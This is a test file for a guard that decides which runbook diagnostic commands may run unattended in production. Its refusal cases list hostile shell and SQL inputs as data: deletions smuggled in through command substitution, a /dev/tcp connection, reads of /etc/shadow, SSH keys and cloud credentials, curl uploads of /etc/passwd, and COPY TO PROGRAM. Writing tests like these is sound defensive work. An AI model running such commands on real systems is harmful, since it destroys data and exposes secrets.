@@ -1,0 +1,324 @@
+"""What may run by itself. One wrong yes here changes somebody's production."""
+
+import json
+import shlex
+from datetime import timedelta
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from conftest import SHARED
+from tocsin.response.guard import TIMEOUT, Verdict, judge
+from tocsin.runbook.policy import Step
+from tocsin.runbook.reading import read_runbook
+
+GRANTED = frozenset({"DATABASE_URL"})
+
+
+def step(source: str, **over: object) -> Step:
+    fields = {"id": "s", "title": "s", "kind": "command", "executable": True, "line": 1, "end_line": 1} | over
+    return Step(source=source, **fields)  # type: ignore[arg-type]
+
+
+def verdict(source: str) -> Verdict:
+    return judge(step(source), GRANTED)
+
+
+@pytest.mark.parametrize(
+    ("source", "effective"),
+    [
+        ("pm2 status sequencer", "pm2 status sequencer"),
+        ("pm2 logs sequencer --lines 100", "pm2 logs sequencer --lines 100 --nostream"),
+        ("pm2 logs sequencer --lines=50 2>&1", "pm2 logs sequencer --lines=50 --nostream 2>&1"),
+        (
+            "pm2 logs sequencer | grep -i error | tail -50",
+            "pm2 logs sequencer --nostream --lines 200 | grep -i error | tail -50",
+        ),
+        ("pm2 logs a --nostream --lines 5", "pm2 logs a --nostream --lines 5"),
+        ("pm2 describe sequencer", "pm2 describe sequencer | sed '/Divergent env/,$d'"),
+        ("netstat -tulpn | grep 3000", "netstat -tulpn | grep 3000"),
+        ("ss -ltnp", "ss -ltnp"),
+        ("curl -s https://a.io/health | jq", "curl --max-time 10 -s https://a.io/health | jq"),
+        ("curl -fsS -m 5 http://127.0.0.1:3000/health", "curl -fsS -m 5 http://127.0.0.1:3000/health"),
+        ("git log -10 --oneline", "git --no-pager log -10 --oneline"),
+        ("git --no-pager log -n 3", "git --no-pager log -n 3"),
+        ("git show abc123 --stat", "git --no-pager show --no-ext-diff --no-textconv abc123 --stat"),
+        ("journalctl -u nginx", "journalctl --no-pager -n 200 -u nginx"),
+        ("journalctl -u nginx --since '1 hour ago'", "journalctl --no-pager -u nginx --since '1 hour ago'"),
+        ("systemctl status nginx", "systemctl --no-pager status nginx"),
+        ("df -h\nfree -m", "df -h\nfree -m"),
+        ("top -bn1 | head -20", "top -bn1 | head -20"),
+        ("ping -c 4 api.example.io", "ping -c 4 api.example.io"),
+        ("uptime # how busy", "uptime # how busy"),
+        ("systemctl is-active nginx >/dev/null 2>&1 || echo down", None),
+        ("kubectl logs deploy/sequencer -n prod --tail=200", "kubectl logs deploy/sequencer -n prod --tail=200"),
+        ("docker stats --no-stream", "docker stats --no-stream"),
+        (
+            "psql ${DATABASE_URL} -c 'SELECT count(*) FROM pg_stat_activity'",
+            "psql -X -v ON_ERROR_STOP=1 \"$DATABASE_URL\" -c 'SELECT count(*) FROM pg_stat_activity'",
+        ),
+        (
+            "psql ''$DATABASE_URL -c 'SELECT 1'",
+            "psql -X -v ON_ERROR_STOP=1 \"$DATABASE_URL\" -c 'SELECT 1'",
+        ),
+        ('psql "$DATABASE_URL" -c "SHOW max_connections"',
+         'psql -X -v ON_ERROR_STOP=1 "$DATABASE_URL" -c "SHOW max_connections"'),
+    ],
+)  # fmt: skip
+def test_what_only_reads_runs_and_is_made_to_end(source: str, effective: str | None) -> None:
+    given_verdict = verdict(source)
+    assert given_verdict.unattended, given_verdict.because
+    assert given_verdict.risk == "read"
+    if effective:
+        assert given_verdict.effective == effective
+        assert (given_verdict.rewritten is not None) == (effective != source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # output, input and shells within
+        "df -h > /tmp/x", "df -h >> x", "df -h 2> errors", "df -h &> x", "df -h >| x", "cat < /dev/tcp/1.2.3.4/80",
+        "df -h > /dev/null.x", "df -h >/dev/sda", "uptime; echo $(rm -rf /srv)", "echo `rm x`", "cat <(rm x)",
+        'echo "$(rm x)"', 'echo "`rm x`"', "cat << EOF\nx\nEOF", "grep x <<< y", "(rm x)", "{ rm x; }",
+        "ls() { rm -rf /; }; ls", "df -h & rm x", "df -h &", "df -h |& tee x", "! df -h", "echo ${X:=1}", "echo $((1))",
+        "echo ${X:-$(rm x)}", "if df -h; then rm x; fi", "for f in a; do rm $f; done", "[[ -f x ]]", "$CMD",
+        '"$CMD" -h',
+        "d\\f -h", "df -h \\; rm x", "df -h;rm x", "df -h&&rm x", "df -h||rm x", "df -h\nrm x", "df -h | xargs rm",
+        "df -h | sh", "df -h | tee x", "df -h | tee /dev/null", "echo x | crontab -", "df -h ; ; uptime", "| df",
+        "df |",
+        "df -h &&", "df -h #\nrm -rf /srv", "echo 'a\nb'; rm x", "A=1 df -h", "PATH=/tmp df -h", "exec df -h",
+        "eval df", "command df -h", "time df -h", "nohup df -h", "timeout 5 df -h", "env df -h", "sudo df -h",
+        "su -c df",
+        "watch df -h", "df\u00a0-h", "d\u0444 -h", "df -h \u202e# x", "df -h\x00", "df -h\r\nrm x", "\\df -h",
+        "'df -h'",
+        "/bin/df -h", "./df", "df -h ~", "cat *", "cat a?", "cat [ab]", "cat {a,b}", "echo $HOME", 'echo "$HOME"',
+        # flags that turn a reader into something else
+        "sort -o x y", "sort --output=x y", "sort --compress-program=./x y", "uniq a b", "tail -f x", "tail -F x",
+        "tail --follow x", "journalctl -f", "journalctl --vacuum-size=1M", "journalctl --rotate", "dmesg -C",
+        "dmesg -c",
+        "date -s 2020-01-01", "date 010203", "hostname evil", "hostname -F x", "ss -K dst 1.2.3.4", "ss -tK", "ss -D x",
+        "ss --kill", "netstat -c", "free -s 1", "top", "top -b", "top -n 1", "top -b -n 9999", "ps auxe", "ps auxwwe",
+        "ps -eo pid,environ", "sysctl -w a.b=1", "sysctl a.b=1", "sysctl -p", "grep -f x y", "grep -r secret /",
+        "grep -R x .", "ping a.io", "ping -f -c 4 a.io", "ping -c 999999 a.io", "ping -c 4 -i 0 a.io", "dig -f x",
+        "git log --output=x", "git diff --output x", "git diff --ext-diff", "git -c core.pager=x log",
+        "git show HEAD:.env",
+        "git log --format=%GS", "git branch -D main", "git checkout main", "git fetch", "git grep -Ox y",
+        "git -C / log", "git diff --no-index /etc/shadow x",
+        "lsof -r 1 -i :80", "vmstat 1", "uptime -x", "jq -n env", "jq '$ENV.X'", "jq 'import \"a\" as a; .'", "jq -f x",
+        "jq -L /x .", "cut -d : -f 1 /etc/shadow", "tr -d a > x", "column -t < x",
+        # secrets
+        "cat .env", "cat /srv/app/.env", "cat /srv/.env.production", "head -5 ~/.aws/credentials",
+        "cat /root/.ssh/id_rsa",
+        "cat /etc/shadow", "cat /proc/self/environ", "cat proc/1/environ", "cat /srv/../etc/shadow", "cat //etc/x",
+        "cat /dev/zero", "head -c 1 /dev/watchdog", "cat /etc/ssl/private/a", "cat server.key",
+        "tail /home/x/.bash_history",
+        "env", "env | grep X", "printenv", "set", "export", "declare -p", "pm2 jlist", "pm2 prettylist", "pm2 env 0",
+        "docker inspect x", "kubectl get secret x", "kubectl get pods,secrets", "kubectl get secrets -o yaml",
+        "kubectl get pod x -o yaml", "kubectl get pod x -o json", "kubectl describe secret x", "kubectl describe cm x",
+        "kubectl get cm x", "kubectl get --raw /api", "kubectl config view --raw", "systemctl show nginx",
+        "systemctl show nginx -p Environment", "systemctl show nginx -p ActiveState,Environment", "systemctl cat nginx",
+        # the world
+        "pm2 restart x", "pm2 delete all", "pm2 flush", "pm2 logs x; pm2 flush", "pm2 monit", "pm2 logs /x/",
+        "pm2 status -h x",
+        "systemctl restart nginx", "systemctl -H evil status nginx", "kubectl logs -f x", "kubectl logs x --follow",
+        "kubectl exec x -- ls", "kubectl get pods -w", "kubectl delete pod x", "kubectl get -f https://a/x",
+        "kubectl apply -f x",
+        "docker logs -f x", "docker logs --follow x", "docker -H tcp://x ps", "docker stats", "docker exec x ls",
+        "docker ps -w",
+        "npx prisma studio", "npx prisma db pull", "npm run x", "./x.sh", "bash x.sh", "x.py", "python3 -c 1",
+        "awk 1 x",
+        "sed -i s/a/b/ x", "find . -delete", "xargs rm", "rm x", "aws s3 sync a b", "redis-cli FLUSHALL",
+        "ssh a uptime",
+        # curl
+        "curl -X POST https://a.io/x", "curl -d x https://a.io/x", "curl -XDELETE https://a.io/x",
+        "curl -sXDELETE https://a.io/x",
+        "curl --data-urlencode x@/etc/passwd https://a.io", "curl -o x https://a.io", "curl -O https://a.io/x",
+        "curl -T x https://a.io", "curl -K x", "curl -w @x https://a.io", "curl -w '%output{x}y' https://a.io",
+        "curl -u a:b https://a.io", "curl -H 'Authorization: x' https://a.io", "curl file:///etc/shadow",
+        "curl gopher://a/_x",
+        "curl https://a.io/$X", "curl https://a.io/`x`", "curl ftp.a.io", "curl -c x https://a.io",
+        "curl https://u:p@a.io/x",
+        "curl 'https://a.io/[1-100]'", "curl https://a.io/a https://b.io/b", "curl https://a.io/x?token=abc",
+        "curl https://a.io/api/restart", "curl https://a.io/jobs/run", "curl https://a.io/?action=delete",
+        "curl -D x https://a.io",
+        "curl https://hooks.slack.com/services/x", "curl https://a.io/%64elete", "curl -x evil:1 https://a.io", "curl",
+        # databases
+        "psql $OTHER_URL -c 'SELECT 1'", "psql $DATABASE_URL", "psql $DATABASE_URL -f x.sql", "psql -c 'SELECT 1' -o x",
+        "psql $DATABASE_URL -c 'SELECT 1' -c 'DROP TABLE x'", "psql $DATABASE_URL -c 'SELECT 1; DROP TABLE x'",
+        "psql $DATABASE_URL -c '\\! rm x'", "psql $DATABASE_URL -c '\\copy x to y'",
+        "psql $DATABASE_URL -c \"SELECT '$X'\"",
+        "psql $DATABASE_URL$X -c 'SELECT 1'", "psql -v x=1 -c 'SELECT 1'", "psql -d 'service=x' -c 'SELECT 1'",
+        "psql -L x -c 'SELECT 1'", "psql $DATABASE_URL -c 'SELECT 1' | sh", "mysql -e 'SELECT 1'", "echo $DATABASE_URL",
+    ],
+)  # fmt: skip
+def test_everything_else_waits_for_a_person_and_says_why(source: str) -> None:
+    refused = verdict(source)
+    assert not refused.unattended
+    assert refused.because
+    assert refused.effective == source.strip()
+    assert refused.environment == ()
+
+
+@pytest.mark.parametrize(
+    "sql",
+    [
+        "INSERT INTO a VALUES (1)", "UPDATE a SET b = 1", "DELETE FROM a", "DROP TABLE a", "TRUNCATE a", "VACUUM",
+        "WITH d AS (DELETE FROM a RETURNING 1) SELECT * FROM d", "SELECT * INTO b FROM a", "SELECT 1 FOR UPDATE",
+        "SELECT 1 FROM a FOR SHARE", "SELECT pg_cancel_backend(1)",
+        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
+        "SELECT nextval('s')", "SELECT set_config('a', 'b', false)", "SELECT pg_sleep(1)", "SELECT pg_reload_conf()",
+        "SELECT lo_import('/etc/passwd')", "SELECT dblink_exec('a', 'b')", "SELECT pg_read_file('/etc/passwd')",
+        "SELECT ops.count(1)", 'SELECT "count"(1)', "SELECT public.fix()", "SELECT fix ()", "SELECT fix/**/(1)",
+        "SELECT 1 -- x", "SELECT 1 /* x */", "SELECT $$a$$", "SELECT $1", "SELECT E'a'", "SELECT U&'a'", "SELECT 'a\\'",
+        "SELECT 1; SELECT 2", "SELECT 1;;", "EXPLAIN ANALYZE SELECT 1", "EXPLAIN (ANALYZE) SELECT 1",
+        "EXPLAIN DELETE FROM a",
+        "SET x = 1", "SHOW all", "BEGIN", "COPY a TO PROGRAM 'x'", "COPY (SELECT 1) TO '/x'", "DO $$x$$", "CALL x()",
+        "TABLE a",
+        "VALUES (1)", "SELECT passwd FROM pg_shadow", "SELECT * FROM pg_authid", "SELECT password FROM users",
+        "LISTEN x",
+        "SELECT api_key FROM a", "SELECT 1 UNION SELECT pg_sleep(9)", "SELECT (SELECT pg_sleep(9))",
+        "SELECT a OPERATOR(x.+) b",
+        "", ";", "SELECT query_to_xml('DELETE FROM a', true, true, '')", "SELECT \u0441ount(1)", "SELECT 1 WHERE :x",
+    ],
+)  # fmt: skip
+def test_a_query_that_may_do_more_than_read_is_not_sent(sql: str) -> None:
+    assert not verdict(f"psql $DATABASE_URL -c {shlex.quote(sql)}").unattended
+
+
+@pytest.mark.parametrize(
+    "sql",
+    [
+        "SELECT count(*) FROM pg_stat_activity WHERE state = 'active';",
+        "SELECT pid, query, now() - query_start AS age FROM pg_stat_activity WHERE now() - xact_start > interval '5s'",
+        "SELECT pg_size_pretty(pg_total_relation_size(schemaname||'.'||tablename)) FROM pg_tables LIMIT 10",
+        'SELECT id, row_number() OVER (PARTITION BY "senderAddress" ORDER BY "createdAt") FROM "Intent" LIMIT 5',
+        'SELECT "update", "delete" FROM "drop" LIMIT 3', "SHOW max_connections", "EXPLAIN SELECT 1",
+        "SELECT a::numeric(10,2) FROM b",
+    ],
+)  # fmt: skip
+def test_a_single_select_with_known_functions_is_sent(sql: str) -> None:
+    sent = verdict(f"psql $DATABASE_URL -c {shlex.quote(sql)}")
+    assert sent.unattended, sent.because
+    assert dict(sent.environment)["PGOPTIONS"].startswith("-c default_transaction_read_only=on -c statement_timeout=")
+
+
+def test_the_practice_set_has_no_wrong_yes_and_enough_right_ones() -> None:
+    path = SHARED / "corpora" / "commands-dev.jsonl"
+    if not path.is_file():
+        pytest.skip(f"needs {path.name}, which lies beside the project and not in it")
+    wrong, reads, allowed = [], 0, 0
+    for line in path.read_text().splitlines():
+        case = json.loads(line)
+        sql = case["lang"] == "sql"
+        assert not (sql and judge(step(case["text"], language="sql"), GRANTED).unattended)
+        source = f"psql $DATABASE_URL -c {shlex.quote(case['text'])}" if sql else case["text"]
+        yes = verdict(source).unattended
+        if case["expect"]["risk"] != "read":
+            wrong += [case["id"]] if yes else []
+        else:
+            reads += 1
+            allowed += yes
+            assert not (yes and "prints-secret" in case["expect"]["flags"])
+    assert wrong == []
+    assert allowed / reads > 0.3
+
+
+def test_the_practice_runbook_is_judged_as_its_readers_would(seed: bytes) -> None:
+    runbook = read_runbook(seed, "RUNBOOK.md")
+    steps = [one for entry in runbook.incident_types for one in entry.diagnostics]
+    assert [one.line for one in steps if judge(one, GRANTED).unattended] == [
+        61, 64, 67, 104, 107, 110, 143, 151, 159, 200, 203, 234, 237,
+    ]  # fmt: skip
+    for entry in runbook.incident_types:
+        for branch in entry.resolution:
+            for one in branch.steps:
+                assert not judge(one, GRANTED).unattended or one.source.startswith("git log")
+
+
+def test_a_variable_that_is_not_granted_is_named() -> None:
+    refused = judge(step('psql "$DATABASE_URL" -c "SELECT 1"'))
+    assert (refused.unattended, refused.risk, refused.variables) == (False, "read", ("DATABASE_URL",))
+    assert refused.because == ("it needs `DATABASE_URL`, which diagnostics have not been granted",)
+
+
+def test_a_granted_address_is_named_among_what_to_know() -> None:
+    told = verdict('psql "$DATABASE_URL" -c "SELECT 1"')
+    assert told.unattended
+    assert "can see the value of `DATABASE_URL`" in told.because[0]
+
+
+@pytest.mark.parametrize(
+    ("source", "because"),
+    [
+        ("npx prisma studio", "prisma studio starts a server, so it would not end by itself"),
+        ("pm2 monit", "pm2 monit redraws the screen, so it would not end by itself"),
+        ("pm2 restart sequencer", "`pm2 restart` changes something"),
+        ("df -h > /tmp/x", "it writes its output to a file"),
+        ("env | grep X", "`env` prints variables, which hold secrets"),
+        ("./scripts/rollback.sh", "what the script `./scripts/rollback.sh` does is not known"),
+        ("kill -9 <pid>", "`<pid>` in it has to be filled in first"),
+        ("docker logs -f web", "it follows the log, so it would not end by itself"),
+    ],
+)
+def test_the_reason_is_in_plain_words(source: str, because: str) -> None:
+    assert verdict(source).because == (because,)
+
+
+@pytest.mark.parametrize(
+    "over",
+    [
+        {"executable": False, "why_not": "it is an example"}, {"kind": "manual"}, {"kind": "prohibition"},
+        {"kind": "snippet"},
+        {"language": "sql"}, {"language": "python"}, {"risk": "change"}, {"risk": "destructive"}, {"risk": "anything"},
+    ],
+)  # fmt: skip
+def test_what_the_document_says_of_a_step_tightens_the_judgement(over: dict[str, object]) -> None:
+    assert judge(step("df -h")).unattended
+    assert not judge(step("df -h", **over)).unattended
+
+
+def test_an_annotation_never_loosens() -> None:
+    assert not judge(step("pm2 delete all", risk="read")).unattended
+    assert judge(step("df -h", timeout=timedelta(hours=1))).timeout == TIMEOUT
+    assert judge(step("df -h", timeout=timedelta(seconds=3))).timeout == timedelta(seconds=3)
+
+
+SHELL_PIECES = [
+    "df",
+    "-h",
+    " ",
+    "|",
+    "&&",
+    ";",
+    "\n",
+    ">",
+    "<",
+    "$(",
+    ")",
+    "`",
+    "'",
+    '"',
+    "\\",
+    "rm",
+    "x",
+    "&",
+    "#",
+    "$A",
+    "{",
+    "}",
+    "*",
+]
+
+
+@given(st.lists(st.sampled_from(SHELL_PIECES), max_size=14).map("".join))
+def test_no_mixture_of_shell_signs_gets_a_removal_through(source: str) -> None:
+    given_verdict = verdict(source)
+    if given_verdict.unattended:
+        # Allowed is only what names df as its every command; `rm` may be nothing but a quoted or plain operand.
+        bare = given_verdict.effective
+        assert not any(sign in bare.replace("'", "") for sign in ("`", "$(", "<"))
+        words = shlex.split(bare.replace("\n", " ; "), comments=True)
+        starts = [word for before, word in zip([";", *words], words, strict=False) if before in {";", "|", "&&"}]
+        assert set(starts) <= {"df", ";", "#"}
